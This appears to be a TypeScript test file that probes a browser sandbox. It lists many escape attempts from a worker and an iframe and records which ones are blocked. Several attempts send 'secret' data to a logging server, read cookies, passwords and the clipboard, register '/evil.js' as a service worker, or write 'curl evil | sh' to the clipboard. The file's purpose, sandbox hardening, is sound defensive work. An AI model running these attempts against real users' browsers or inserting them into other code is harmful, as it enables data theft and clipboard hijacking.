// What a hostile script would try, once it runs where the engine runs (a worker) or one wall further out (the frame's document).
// Both functions are handed over as text: they may use nothing from outside themselves.

/** What came of each attempt: the name of the error that stopped it, `nothing` when it brought nothing, or `got something`. */
export type Outcomes = Readonly<Record<string, string>>;

/** Tries all at once; what does not answer within `patience` ms brought nothing. Text that `attempt` stands in runs in worker and frame alike. */
export async function tryAll(
  attempts: Readonly<Record<string, () => unknown>>,
  patience: number,
): Promise<Record<string, string>> {
  const outcomes: Record<string, string> = {};
  const late = () => new Promise((resolve) => setTimeout(() => resolve(false), patience));
  await Promise.all(
    Object.entries(attempts).map(async ([name, attempt]) => {
      try {
        outcomes[name] = (await Promise.race([attempt(), late()])) ? 'got something' : 'nothing';
      } catch (error) {
        outcomes[name] = error instanceof Error || error instanceof DOMException ? error.name : String(error);
      }
    }),
  );
  return outcomes;
}

/** @param hit an address of a server that writes down what reaches it. */
export function attemptsOfWorker(hit: string): Record<string, () => unknown> {
  const scope = globalThis as unknown as Record<string, never> & { navigator: Record<string, never> };
  const any = (name: string): never => {
    const value = scope[name];
    if (value === undefined) throw new ReferenceError(name);
    return value;
  };
  const of = (name: string): never => {
    const value = scope.navigator[name];
    if (value === undefined) throw new ReferenceError(name);
    return value;
  };
  const make = (name: string, ...all: unknown[]): unknown => Reflect.construct(any(name), all);
  const opened = (target: EventTarget, good: string): Promise<boolean> =>
    new Promise((resolve) => {
      target.addEventListener(good, () => resolve(true));
      target.addEventListener('error', () => resolve(false));
    });
  const code = (text: string): string => URL.createObjectURL(new Blob([text], { type: 'text/javascript' }));
  const heard = (worker: Worker): Promise<boolean> =>
    new Promise((resolve) => {
      worker.onmessage = ({ data }) => resolve(data === 'got');
      worker.onerror = (error) => {
        error.preventDefault();
        resolve(false);
      };
    });
  const tells = 'then(() => postMessage("got"), () => postMessage("no"))';
  return {
    // The network.
    'fetch from here': () => fetch(`${hit}/fetch`),
    'fetch a relative address': () => fetch('/fetch-relative'),
    'fetch from elsewhere': () => fetch('https://example.com/'),
    'post without asking': () => fetch(`${hit}/post`, { method: 'POST', mode: 'no-cors', body: 'secret' }),
    'fetch that outlives the page': () =>
      fetch(`${hit}/keepalive`, { method: 'POST', keepalive: true, body: 'secret' }),
    'fetch later': () => (any('fetchLater') as (url: string) => unknown)(`${hit}/later`),
    'fetch of a request made before': () => fetch(new Request(`${hit}/request`, { credentials: 'include' })),
    'request, the old way': () => {
      const request = new XMLHttpRequest();
      const answer = opened(request, 'load');
      request.open('GET', `${hit}/xhr`);
      request.send();
      return answer;
    },
    'request that waits': () => {
      const request = new XMLHttpRequest();
      request.open('POST', `${hit}/xhr-sync`, false);
      request.send('secret');
      return true;
    },
    'a socket': () => opened(new WebSocket(`${hit.replace('http', 'ws')}/socket`), 'open'),
    'a socket elsewhere': () => opened(new WebSocket('wss://example.com/'), 'open'),
    'a socket of streams': () =>
      (make('WebSocketStream', `${hit.replace('http', 'ws')}/stream`) as { opened: Promise<unknown> }).opened.then(
        () => true,
      ),
    'events of a server': () => opened(new EventSource(`${hit}/events`), 'open'),
    'a transport': () => new WebTransport(`${hit.replace('http', 'https')}/transport`).ready.then(() => true),
    'a beacon': () =>
      (of('sendBeacon') as (url: string, text: string) => boolean).call(navigator, `${hit}/beacon`, 'secret'),
    'a call between browsers': () => make('RTCPeerConnection', { iceServers: [{ urls: `stun:${hit.slice(7)}` }] }),
    'a font from the network': () => new FontFace('f', `url(${hit}/font)`).load(),
    'a font of the scope': () =>
      (any('fonts') as FontFaceSet).load(`10px "f", url(${hit}/font-set)`).then((all) => all.length > 0),
    'WebAssembly from the network': () => WebAssembly.compileStreaming(fetch(`${hit}/wasm`)),
    'a script from the network': () => (any('importScripts') as (url: string) => void)(`${hit}/import-scripts`),
    'a script in an address': () => (any('importScripts') as (url: string) => void)('data:text/javascript,self.in=1'),
    'a module from the network': () => import(/* @vite-ignore */ `${hit}/module`),
    'a module from elsewhere': () => import(/* @vite-ignore */ `https://example.com/${'module.js'}`),
    'a worker from the network': () => heard(new Worker(`${hit}/worker`)),
    'a worker in an address': () => heard(new Worker('data:text/javascript,postMessage("got")')),
    'a worker of its own that fetches': () =>
      heard(new Worker(code(`fetch(${JSON.stringify(`${hit}/nested`)}).${tells}`))),
    'a worker of its own that imports': () =>
      heard(new Worker(code(`importScripts(${JSON.stringify(`${hit}/nested-import`)}); postMessage("got")`))),
    'a worker of its own that opens a database': () =>
      heard(new Worker(code(`const o = indexedDB.open("n"); o.onsuccess = () => postMessage("got")`))),
    'a module worker': () => heard(new Worker(`${hit}/module-worker`, { type: 'module' })),
    'a shared worker': () => make('SharedWorker', `${hit}/shared`),
    'a service worker': () => (of('serviceWorker') as ServiceWorkerContainer).register('/evil.js'),
    'another place for this worker': () => {
      (scope as unknown as { location: { href: string } }).location.href = `${hit}/location`;
      return false;
    },
    'a window': () => (any('open') as (url: string) => unknown)(`${hit}/open`),
    // What is stored.
    'a database': () => opened(indexedDB.open('noventa'), 'success'),
    'the names of databases': () => indexedDB.databases(),
    'the end of a database': () => opened(indexedDB.deleteDatabase('noventa'), 'success'),
    'a cache': () => caches.open('noventa'),
    'the names of caches': () => caches.keys(),
    'what caches hold': () => caches.match(`${hit}/`),
    'the end of a cache': () => caches.delete('noventa'),
    'private files': () => navigator.storage.getDirectory(),
    'storage for ever': () => navigator.storage.persist(),
    'buckets of storage': () => (of('storageBuckets') as { open(name: string): unknown }).open('noventa'),
    cookies: () => (any('cookieStore') as { getAll(): Promise<unknown[]> }).getAll().then((all) => all.length > 0),
    'a cookie': () => (any('cookieStore') as { set(name: string, value: string): unknown }).set('evil', '1'),
    'local storage': () => any('localStorage'),
    'storage of the session': () => any('sessionStorage'),
    'a lock': () => navigator.locks.request('noventa-progress', () => true),
    'the names of locks': () => navigator.locks.query(),
    'files, the old way': () => (any('webkitRequestFileSystemSync') as (kind: number, size: number) => unknown)(0, 1),
    'a file of the device': () => (any('showOpenFilePicker') as () => unknown)(),
    // Other pages.
    'a channel to the page': () => {
      for (const name of ['noventa', 'noventa-progress', 'noventa:progress'])
        new BroadcastChannel(name).postMessage({ evil: true });
      return false;
    },
    'a document': () => any('document'),
    'the window': () => any('window'),
    'the window above': () => any('parent'),
    'the topmost window': () => any('top'),
    'who opened it': () => any('opener'),
    'a message to every window': () => (any('postMessage') as (...all: unknown[]) => void)({ frame: 'ready' }, '*'),
    'the clients of a service worker': () => any('clients'),
    // Text as code: what is handed over must stay all that runs.
    'text as code': () => (any('eval') as (text: string) => unknown)('1'),
    'text as a function': () => new Function('return 1')(),
    'text as an asynchronous function': () => Object.getPrototypeOf(async () => {}).constructor('return 1')(),
    'text as a generator': () => Object.getPrototypeOf(function* () {}).constructor('return 1')(),
    'text in a timer': () =>
      new Promise((resolve) => {
        (scope as unknown as { timed?: () => void }).timed = () => resolve(true);
        setTimeout('timed()' as unknown as () => void, 0);
      }),
    // The device.
    notifications: () => (any('Notification') as typeof Notification).permission === 'granted',
    'pushed messages': () => any('PushManager') && (any('registration') as ServiceWorkerRegistration).pushManager,
    'devices on a cable': () =>
      (of('usb') as { getDevices(): Promise<unknown[]> }).getDevices().then((all) => all.length > 0),
    'devices on a line': () =>
      (of('serial') as { getPorts(): Promise<unknown[]> }).getPorts().then((all) => all.length > 0),
    'devices for hands': () =>
      (of('hid') as { getDevices(): Promise<unknown[]> }).getDevices().then((all) => all.length > 0),
    'where the device is': () => of('geolocation'),
    'camera and microphone': () => of('mediaDevices'),
    clipboard: () => of('clipboard'),
    'kept passwords': () => of('credentials'),
    'an awake screen': () => of('wakeLock'),
    'memory shared with the page': () => make('SharedArrayBuffer', 8),
  };
}

/** The same from the frame's own document, which only the page writes. */
export function attemptsOfFrame(hit: string): Record<string, () => unknown> {
  const any = (name: string): never => {
    const value = (globalThis as unknown as Record<string, never>)[name];
    if (value === undefined) throw new ReferenceError(name);
    return value;
  };
  const of = (name: string): never => {
    const value = (navigator as unknown as Record<string, never>)[name];
    if (value === undefined) throw new ReferenceError(name);
    return value;
  };
  const make = (name: string, ...all: unknown[]): unknown => Reflect.construct(any(name), all);
  /** Puts an element into the document and waits for it to load. */
  const put = (
    tag: string,
    attributes: Record<string, string>,
    then?: (element: HTMLElement) => void,
  ): Promise<boolean> =>
    new Promise((resolve) => {
      const element = document.createElement(tag);
      element.addEventListener('load', () => resolve(true));
      element.addEventListener('loadeddata', () => resolve(true));
      element.addEventListener('error', () => resolve(false));
      for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
      (document.body ?? document.documentElement).append(element);
      then?.(element);
    });
  const link = (rel: string, more: Record<string, string> = {}): Promise<boolean> =>
    put('link', { rel, href: `${hit}/${rel.replaceAll(' ', '-')}`, ...more });
  const style = (text: string): Promise<boolean> =>
    put('style', {}, (element) => (element.textContent = text)).then(() => false);
  const markup = (text: string): boolean => {
    (document.body ?? document.documentElement).insertAdjacentHTML('beforeend', text);
    return false;
  };
  const nested = (script: string): Promise<boolean> =>
    new Promise((resolve) => {
      addEventListener('message', ({ data }) => data === script && resolve(true));
      void put('iframe', {
        srcdoc: `<script>Promise.resolve(${script}).then((x) => x && parent.postMessage(${JSON.stringify(script)}, '*'))</script>`,
      });
    });
  return {
    // Whatever loads something.
    picture: () => put('img', { src: `${hit}/img` }),
    'picture by size': () => put('img', { srcset: `${hit}/srcset 1x` }),
    'picture in code': () =>
      new Promise((resolve) => {
        const image = new Image();
        image.onload = () => resolve(true);
        image.onerror = () => resolve(false);
        image.src = `${hit}/image`;
      }),
    'picture in a picture': () => markup(`<svg><image href="${hit}/svg-image"/></svg>`),
    'part of a picture': () => markup(`<svg><use href="${hit}/svg-use#a"/></svg>`),
    'picture of a button': () => put('input', { type: 'image', src: `${hit}/input` }),
    sound: () => put('audio', { src: `${hit}/audio`, autoplay: '' }),
    film: () => put('video', { src: `${hit}/video`, poster: `${hit}/poster`, autoplay: '' }),
    subtitles: () => markup(`<video><track default src="${hit}/track"><source src="${hit}/source"></video>`),
    object: () => put('object', { data: `${hit}/object` }),
    plugin: () => put('embed', { src: `${hit}/embed` }),
    script: () => put('script', { src: `${hit}/script` }),
    'script as a module': () => put('script', { type: 'module', src: `${hit}/script-module` }),
    'script by name': () => markup(`<script src="${hit}/script-markup"></script>`),
    'a map of imports': () =>
      put('script', { type: 'importmap' }, (one) => (one.textContent = `{"imports":{"x":"${hit}/import-map"}}`)),
    'a module': () => import(/* @vite-ignore */ `${hit}/module`),
    'rules to load ahead': () =>
      put(
        'script',
        { type: 'speculationrules' },
        (one) =>
          (one.textContent = `{"prefetch":[{"source":"list","urls":["${hit}/speculation"]}],"prerender":[{"source":"list","urls":["${hit}/prerender"]}]}`),
      ),
    'a style sheet': () => link('stylesheet'),
    'a style that imports': () => style(`@import url(${hit}/import);`),
    'a style with a picture': () => style(`html { background: url(${hit}/background) }`),
    'a style with a font': () =>
      style(`@font-face { font-family: x; src: url(${hit}/font-face) } html { font-family: x }`),
    'a style with a cursor': () =>
      style(`html { cursor: url(${hit}/cursor), auto; list-style-image: url(${hit}/list) }`),
    'a worklet': () =>
      (any('CSS') as unknown as { paintWorklet: { addModule(url: string): unknown } }).paintWorklet.addModule(
        `${hit}/worklet`,
      ),
    'a worklet of sound': () => new AudioContext().audioWorklet.addModule(`${hit}/audio-worklet`).then(() => true),
    prefetch: () => link('prefetch'),
    preload: () => link('preload', { as: 'image' }),
    'preload of a module': () => link('modulepreload'),
    'a name looked up ahead': () => link('dns-prefetch').then(() => false),
    'a connection ahead': () => link('preconnect').then(() => false),
    'an icon': () => link('icon').then(() => false),
    'a manifest': () => link('manifest').then(() => false),
    'a frame': () => put('iframe', { src: `${hit}/iframe` }).then(() => false),
    'a frame of text': () => put('iframe', { src: `data:text/html,<img src=${hit}/data-frame>` }).then(() => false),
    'a frame that fetches': () => nested(`fetch('${hit}/nested-fetch').then(() => true)`),
    'a frame with storage': () => nested(`localStorage.getItem('a') === null`),
    'a frame with scripts and the origin': () =>
      put('iframe', {
        sandbox: 'allow-scripts allow-same-origin allow-top-navigation allow-popups',
        srcdoc: `<script>top.location='${hit}/loose'</script>`,
      }).then(() => false),
    'a frame without a policy': () =>
      put('iframe', { csp: '', srcdoc: `<img src="${hit}/no-policy">` }).then(() => false),
    'a fenced frame': () => put('fencedframe', { src: `${hit}/fenced` }).then(() => false),
    'another base': () => {
      markup(`<base href="${hit}/base/">`);
      return put('img', { src: 'relative' });
    },
    // Going elsewhere.
    'go elsewhere': () => markup(`<meta http-equiv="refresh" content="0;url=${hit}/refresh">`),
    'a form': () => put('form', { action: `${hit}/form` }, (one) => (one as HTMLFormElement).submit()),
    'a form that posts above': () =>
      put('form', { action: `${hit}/form-top`, method: 'post', target: '_top' }, (one) =>
        (one as HTMLFormElement).submit(),
      ),
    'a form in a new window': () =>
      put('form', { action: `${hit}/form-blank`, target: '_blank' }, (one) => (one as HTMLFormElement).requestSubmit()),
    'a link above': () => put('a', { href: `${hit}/a-top`, target: '_top' }, (one) => one.click()),
    'a link in a new window': () => put('a', { href: `${hit}/a-blank`, target: '_blank' }, (one) => one.click()),
    'a link that tells': () => put('a', { href: '#', ping: `${hit}/ping` }, (one) => one.click()),
    'a file to keep': () =>
      put('a', { href: 'data:application/octet-stream,evil', download: 'evil.sh' }, (one) => one.click()),
    'a file from the network': () => put('a', { href: `${hit}/download`, download: 'evil.sh' }, (one) => one.click()),
    'a new window': () => open(`${hit}/open`) !== null,
    'a new window unseen': () => open(`${hit}/open-noopener`, '_blank', 'noopener') !== null,
    'the page goes elsewhere': () => {
      (top as Window).location.href = `${hit}/top`;
      return false;
    },
    'the page is replaced': () => (top as Window).location.replace(`${hit}/top-replace`),
    'the page by name': () => open(`${hit}/open-top`, '_top') !== null,
    'the parent goes elsewhere': () => {
      parent.location.href = `${hit}/parent`;
      return false;
    },
    'a script in the address above': () => {
      parent.location.href = 'javascript:document.title="evil"';
      return false;
    },
    'back in history': () => history.back(),
    'far back in history': () => history.go(-3),
    'a false address': () => history.pushState(null, '', '/evil'),
    'the page closed': () => (top as Window).close(),
    'the page stopped': () => (top as unknown as { stop(): void }).stop(),
    // What the page has.
    'the page’s document': () => parent.document,
    'the topmost document': () => (top as Window).document,
    'the page’s storage': () => parent.localStorage,
    'a function of the page': () => (parent as unknown as { evil(): void }).evil(),
    'the element of this frame': () => frameElement,
    'other frames': () =>
      Array.from({ length: parent.length }, (_, at) => parent[at]).some((one) => one !== self && one?.document),
    'a name for the page': () => {
      (parent as { name: string }).name = 'evil';
      return true;
    },
    'a wider domain': () => {
      document.domain = '127.0.0.1';
      return parent.document;
    },
    // What is stored.
    cookie: () => {
      // biome-ignore lint/suspicious/noDocumentCookie: what an attacker would write
      document.cookie = 'evil=1';
      return document.cookie;
    },
    'local storage': () => localStorage,
    'storage of the session': () => sessionStorage,
    'a database': () =>
      new Promise((resolve) => {
        const opening = indexedDB.open('noventa');
        opening.onsuccess = () => resolve(true);
        opening.onerror = () => resolve(false);
      }),
    caches: () => caches.keys(),
    'private files': () => navigator.storage.getDirectory(),
    'storage of the page': () => document.requestStorageAccess().then(() => true),
    'a lock': () => navigator.locks.request('noventa-progress', () => true),
    'a service worker': () => navigator.serviceWorker.register('/evil.js'),
    'a shared worker': () => new SharedWorker(`${hit}/shared`),
    // The network, as before.
    fetch: () => fetch(`${hit}/frame-fetch`),
    beacon: () => navigator.sendBeacon(`${hit}/frame-beacon`, 'secret') && false,
    socket: () =>
      new Promise((resolve) => {
        const socket = new WebSocket(`${hit.replace('http', 'ws')}/frame-socket`);
        socket.onopen = () => resolve(true);
        socket.onerror = () => resolve(false);
      }),
    events: () =>
      new Promise((resolve) => {
        const source = new EventSource(`${hit}/frame-events`);
        source.onopen = () => resolve(true);
        source.onerror = () => resolve(false);
      }),
    transport: () => new WebTransport(`${hit.replace('http', 'https')}/frame-transport`).ready.then(() => true),
    'a call between browsers': async () => {
      const call = new RTCPeerConnection({ iceServers: [{ urls: `stun:${hit.slice('http://'.length)}` }] });
      const ways: unknown[] = [];
      call.onicecandidate = ({ candidate }) => candidate?.candidate && ways.push(candidate);
      call.createDataChannel('out');
      await call.setLocalDescription(await call.createOffer());
      await new Promise((resolve) => setTimeout(resolve, 1500));
      return ways.length > 0;
    },
    // What a person would see, or be asked.
    'a message': () => alert('evil'),
    'a question': () => confirm('evil'),
    'a question for words': () => prompt('evil'),
    'a page to print': () => print(),
    'the whole screen': () => document.documentElement.requestFullscreen().then(() => true),
    'the pointer': () => document.documentElement.requestPointerLock(),
    'what was copied': () => navigator.clipboard.readText().then(() => true),
    'something to paste': () => navigator.clipboard.writeText('curl evil | sh').then(() => true),
    'something to paste, the old way': () => {
      markup('<textarea id="t">curl evil | sh</textarea>');
      (document.querySelector('#t') as HTMLTextAreaElement).select();
      return document.execCommand('copy');
    },
    notifications: () => Notification.requestPermission().then((answer) => answer === 'granted'),
    place: () =>
      new Promise((resolve) =>
        navigator.geolocation.getCurrentPosition(
          () => resolve(true),
          () => resolve(false),
        ),
      ),
    'camera and microphone': () => navigator.mediaDevices.getUserMedia({ audio: true, video: true }).then(() => true),
    screen: () => navigator.mediaDevices.getDisplayMedia().then(() => true),
    'a payment': () =>
      make('PaymentRequest', [{ supportedMethods: 'https://example.com' }], {
        total: { label: 'x', amount: { currency: 'EUR', value: '1' } },
      }),
    'kept passwords': () =>
      (of('credentials') as CredentialsContainer)
        .get({ password: true } as CredentialRequestOptions)
        .then((one) => one !== null),
    'a key of the device': () =>
      (of('credentials') as CredentialsContainer).get({ publicKey: { challenge: new Uint8Array(8) } }).then(() => true),
    'a file of the device': () => (any('showOpenFilePicker') as () => Promise<unknown>)().then(() => true),
    'a handler for mail': () => navigator.registerProtocolHandler('mailto', `${hit}/%s`),
    'devices on a cable': () =>
      (of('usb') as { requestDevice(o: object): Promise<unknown> }).requestDevice({ filters: [] }).then(() => true),
    'text as code': () => (any('eval') as (text: string) => unknown)('1'),
    'text in a handler': () => {
      markup('<b onclick="globalThis.handled = true">x</b>');
      (document.querySelector('b') as HTMLElement).click();
      return false;
    },
  };
}
